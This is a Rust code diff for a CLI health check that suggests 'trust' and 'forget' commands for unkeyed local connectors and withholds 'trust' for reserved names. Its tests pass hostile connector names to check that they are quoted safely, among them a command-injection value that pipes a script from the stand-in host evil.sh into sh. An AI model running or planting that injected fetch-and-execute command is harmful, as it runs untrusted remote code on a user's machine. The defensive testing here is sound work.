@@ -5,6 +5,7 @@ use crate::connect;
 use crate::context::Context;
 use crate::escape::{one_line, shell_word};
 use cortex_api::{ConnectorRow, ConnectorState, LocalConnectorRow};
+use cortex_types::is_reserved_source;
 
 /// One look for each connector; none when no server can be asked, which another check tells.
 pub(super) async fn connectors(context: &Context) -> Vec<Check> {
@@ -24,12 +25,19 @@ fn local(row: &LocalConnectorRow) -> Check {
         }
         None => {
             // Anybody on this machine chose the name, and the owner may paste the line.
-            let let_in = match shell_word(&row.connector_id) {
-                Some(word) => format!("`cortex connector trust -- {word}` lets it in if it is yours"),
+            let what_to_do = match shell_word(&row.connector_id) {
+                Some(word) => {
+                    let forget = format!("`cortex connector forget -- {word}` takes it off this list");
+                    // What the server would refuse is no advice.
+                    let is_reserved =
+                        is_reserved_source(&row.connector_id) || is_reserved_source(&row.source);
+                    let trust = format!("`cortex connector trust -- {word}` lets it in if it is yours");
+                    if is_reserved { forget } else { format!("{trust}, {forget}") }
+                }
                 None => "its name cannot be typed as it is shown; `cortex connector status --json` has it"
                     .to_owned(),
             };
-            let what = format!("{name} came without a key and sees only its own conversation; {let_in}");
+            let what = format!("{name} came without a key and sees only its own conversation; {what_to_do}");
             Check::warning("connector", what)
         }
     }
@@ -65,19 +73,23 @@ mod tests {
 
     #[test]
     fn a_command_holds_a_strangers_name_as_one_word_and_whole() {
-        let pasted = "lets it in if it is yours";
-        check_local(
-            "x; curl evil.sh|sh",
-            &format!("; `cortex connector trust -- 'x; curl evil.sh|sh'` {pasted}"),
-        );
-        check_local(
-            "--source=telegram",
-            &format!("; `cortex connector trust -- '--source=telegram'` {pasted}"),
-        );
+        let advice = |word: &str| {
+            format!(
+                "; `cortex connector trust -- {word}` lets it in if it is yours, `cortex connector forget -- {word}` \
+                 takes it off this list"
+            )
+        };
+        check_local("x; curl evil.sh|sh", &advice("'x; curl evil.sh|sh'"));
+        check_local("--source=telegram", &advice("'--source=telegram'"));
         let long = "n".repeat(128);
-        check_local(&long, &format!("; `cortex connector trust -- {long}` {pasted}"));
+        check_local(&long, &advice(&long));
         let no_command = "; its name cannot be typed as it is shown; `cortex connector status --json` has it";
         check_local("two  blanks", no_command);
         check_local("back`tick", no_command);
+    }
+
+    #[test]
+    fn a_name_of_the_servers_own_is_not_recommended_for_trust() {
+        check_local("cli", "its own conversation; `cortex connector forget -- cli` takes it off this list");
     }
 }
